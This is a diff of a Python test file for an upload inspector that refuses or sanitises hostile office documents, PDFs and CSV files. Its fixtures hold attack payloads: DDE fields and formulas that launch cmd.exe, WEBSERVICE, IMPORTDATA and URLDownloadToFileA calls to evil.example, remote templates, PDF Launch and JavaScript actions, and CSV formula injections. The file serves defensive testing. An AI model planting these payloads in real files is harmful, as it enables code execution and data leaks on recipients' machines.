@@ -1,12 +1,16 @@
 """Office documents, PDF and texts, as the child process judges them."""
 
+import io
 import struct
+from zipfile import ZipFile
 
+import pikepdf
 import pytest
 
 from app.files.inspection.unfit import Why
-from tests.app.files.conftest import Verdict
+from tests.app.files.conftest import Found, Verdict
 from tests.app.files.documents import (
+    WORD,
     docx_with,
     field,
     object_stream,
@@ -18,7 +22,38 @@ from tests.app.files.documents import (
 )
 
 MB = 1024 * 1024
+W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 DDE = 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'
+DDE_FIELD = f'<w:fldSimple xmlns:w="{W}" w:instr="DDEAUTO cmd"/>'
+OUTSIDE_RELATION = next(iter(relation("image", "http://evil.example/pixel.png").values()))
+
+
+def docx_named(name: str, body: str) -> bytes:
+    """A document whose main part has another name."""
+    types = f'<Types><Override PartName="/{name}" ContentType="{WORD}"/></Types>'
+    document = f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
+    return zipped({"[Content_Types].xml": types, name: document})
+
+
+def xlsx_named(name: str, cells: str) -> bytes:
+    """A workbook whose sheet has another name."""
+    content = xlsx_with(cells)
+    archive = ZipFile(io.BytesIO(content))
+    parts: dict[str, str | bytes] = {one: archive.read(one) for one in archive.namelist()}
+    parts[name] = parts.pop("xl/worksheets/sheet1.xml")
+    return zipped(parts)
+
+
+def packed_pdf(action: str, key: str) -> bytes:
+    """A real PDF whose action lies in a stream of objects."""
+    buffer = io.BytesIO()
+    with pikepdf.new() as document:
+        document.add_blank_page()
+        facts = {key: pikepdf.String("x")} | ({"/S": pikepdf.Name(action)} if action else {})
+        document.Root["/Later"] = document.make_indirect(pikepdf.Dictionary(facts))
+        document.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    return buffer.getvalue()
 
 
 def test_an_ordinary_document_passes(verdict: Verdict) -> None:
@@ -36,6 +71,33 @@ def test_an_ordinary_document_passes(verdict: Verdict) -> None:
         is None
     )
     assert verdict(docx_with(more=relation("hyperlink", "https://dealer.example/")), "docx") is None
+
+
+@pytest.mark.parametrize(
+    "template",
+    ["file:///C:\\Users\\anna\\Templates\\Act.dotx", "C:/Templates/Act.dotm", "Normal.dotm"],
+)
+def test_a_document_with_a_template_of_its_company_is_kept_without_it(
+    found: Found, template: str
+) -> None:
+    settings = (
+        f'<w:settings xmlns:w="{W}" xmlns:r="{R}">'
+        '<w:attachedTemplate r:id="r1"/><w:zoom w:percent="100"/></w:settings>'
+    )
+    more = relation("attachedTemplate", template)
+    more["word/_rels/settings.xml.rels"] = more.pop("word/_rels/document.xml.rels")
+    content = docx_with("<w:p/>", more | {"word/settings.xml": settings})
+
+    look = found(content, "docx")
+
+    assert look.is_replaced
+    assert look.shown is not None
+    parts = ZipFile(io.BytesIO(look.shown))
+    assert b"Act.dot" not in b"".join(parts.read(name) for name in parts.namelist())
+    assert b"attachedTemplate" not in parts.read("word/settings.xml")
+    assert b"zoom" in parts.read("word/settings.xml")
+    assert parts.read("word/document.xml") == ZipFile(io.BytesIO(content)).read("word/document.xml")
+    assert not found(look.shown, "docx").is_replaced
 
 
 def test_an_ordinary_workbook_passes(verdict: Verdict) -> None:
@@ -68,6 +130,23 @@ def test_an_ordinary_workbook_passes(verdict: Verdict) -> None:
         (docx_with(field(DDE, closed=False)), Why.OUTSIDE_LINK),
         (docx_with('<w:p><w:fldSimple w:instr="INCLUDETEXT x"/></w:p>'), Why.OUTSIDE_LINK),
         (docx_with(field('INCLUDEPICTURE "http://evil.example/"')), Why.OUTSIDE_LINK),
+        (docx_named("word/document.dat", field(DDE)), Why.OUTSIDE_LINK),
+        (docx_named("WORD/Document.XML", field(DDE)), Why.OUTSIDE_LINK),
+        (docx_with(more={"word/media/image1.png": f"<x>{DDE_FIELD}</x>"}), Why.OUTSIDE_LINK),
+        (
+            docx_with(more={"word/_rels/document.xml.RELS": OUTSIDE_RELATION}),
+            Why.OUTSIDE_LINK,
+        ),
+        (docx_with(more={"word/media/image1.png": b"PK\x03\x04"}), Why.EMBEDDED_FILE),
+        (docx_with(more={"word/media/image1.png": b"MZ\x90"}), Why.EMBEDDED_FILE),
+        (
+            docx_with(more=relation("attachedTemplate", "\\\\evil.example\\a.dotm")),
+            Why.OUTSIDE_LINK,
+        ),
+        (
+            docx_with(more=relation("attachedTemplate", "file://evil.example/a.dotm")),
+            Why.OUTSIDE_LINK,
+        ),
         (zipped({"[Content_Types].xml": "<Types/>"}), Why.OTHER_CONTENT),
         (zipped({"hello.txt": "a zip under another name"}), Why.OTHER_CONTENT),
         (xlsx_with(), Why.OTHER_CONTENT),
@@ -84,6 +163,29 @@ def test_a_document_that_runs_or_fetches_or_hides_something_is_refused(
     [
         (xlsx_with("<c><f>cmd|'/C calc'!A0</f></c>"), Why.OUTSIDE_LINK),
         (xlsx_with("<c><f>MSEXCEL|'\\..\\cmd.exe /c calc'!A1</f></c>"), Why.OUTSIDE_LINK),
+        *(
+            (xlsx_with(f"<c><f>{formula}</f></c>"), Why.OUTSIDE_LINK)
+            for formula in (
+                'WEBSERVICE("http://evil.example/"&amp;A1)',
+                '_xlfn.WEBSERVICE("http://evil.example")',
+                '_xlfn.IMAGE("http://evil.example/a.png")',
+                'SUM(A1, image ("http://evil.example/a.png"))',
+                'RTD("evil.server",,"topic")',
+                'CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
+                "'\\\\evil.example\\[a.xlsx]Sheet1'!A1",
+                "'http://evil.example/[a.xlsx]Sheet1'!A1",
+                'HYPERLINK("\\\\evil.example\\a")',
+                'IMPORTDATA("http://evil.example")',
+            )
+        ),
+        (
+            xlsx_named("xl/worksheets/sheet1.dat", '<c><f>WEBSERVICE("http://e")</f></c>'),
+            Why.OUTSIDE_LINK,
+        ),
+        (
+            xlsx_with(more={"xl/x.bin1": '<a xmlns="x"/>', "xl/_rels/a.RELS": OUTSIDE_RELATION}),
+            Why.OUTSIDE_LINK,
+        ),
         (xlsx_with(more={"xl/externalLinks/externalLink1.xml": "<a/>"}), Why.OUTSIDE_LINK),
         (xlsx_with(more={"xl/connections.xml": "<a/>"}), Why.OUTSIDE_LINK),
         (xlsx_with(more={"xl/vbaProject.bin": b"x"}), Why.ACTIVE_CONTENT),
@@ -203,6 +305,19 @@ def test_an_ordinary_pdf_passes(verdict: Verdict) -> None:
             pdf(object_stream(b"4 0 << /JS (x) >>", b"/Type 9 0 R /Filter [/Fl]")),
             Why.ACTIVE_CONTENT,
         ),
+        (
+            pdf(object_stream(b"4 0 << /S /JavaScript >>", b"/Type /ObjStm /X(obj) /Filter /Fl")),
+            Why.ACTIVE_CONTENT,
+        ),
+        (
+            pdf(object_stream(b"4 0 << /JS (x) >>", b"/X(endobj stream\n) /Filter /FlateDecode")),
+            Why.ACTIVE_CONTENT,
+        ),
+        (packed_pdf("/JavaScript", "/JS"), Why.ACTIVE_CONTENT),
+        (packed_pdf("/Launch", "/F"), Why.ACTIVE_CONTENT),
+        (packed_pdf("/GoToR", "/F"), Why.OUTSIDE_LINK),
+        (packed_pdf("/GoToE", "/F"), Why.EMBEDDED_FILE),
+        (packed_pdf("", "/AA"), Why.ACTIVE_CONTENT),
         (pdf(b"% >>\nstream\n4 0 obj << /S /Launch >>\nendstream\n"), Why.ACTIVE_CONTENT),
         (pdf(b"4 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n"), Why.EMBEDDED_FILE),
         (pdf(b"4 0 obj\n<< /Subtype /FileAttachment >>\nendobj\n"), Why.EMBEDDED_FILE),
@@ -249,3 +364,29 @@ def test_a_text_that_is_none_or_floods_is_refused(
     verdict: Verdict, code: str, content: bytes, why: Why
 ) -> None:
     assert verdict(content, code) is why
+
+
+def test_formulas_of_a_table_are_shown_as_text_and_marked(found: Found) -> None:
+    table = (
+        "sku;count;note\r\n"
+        "=HYPERLINK(A1);-5;+7 (912) 000-00-00\r\n"
+        "\"=cmd|'/C calc'!A1\";2;@SUM(1)\r\n"
+        "a,=1+1;+A1;-2,5\r\n"
+    )
+
+    look = found(table.encode(), "csv")
+
+    assert look.change == "formulas_as_text"
+    assert look.shown is not None
+    assert look.shown.decode("utf-8-sig") == (
+        "sku;count;note\r\n"
+        "'=HYPERLINK(A1);-5;+7 (912) 000-00-00\r\n"
+        "\"'=cmd|'/C calc'!A1\";2;'@SUM(1)\r\n"
+        "a,'=1+1;'+A1;-2,5\r\n"
+    )
+
+
+def test_a_table_without_formulas_is_shown_as_it_is(found: Found) -> None:
+    look = found(b"a;b\n-1;+7 912\n-;x=y\n", "csv")
+
+    assert (look.change, look.shown) == (None, None)
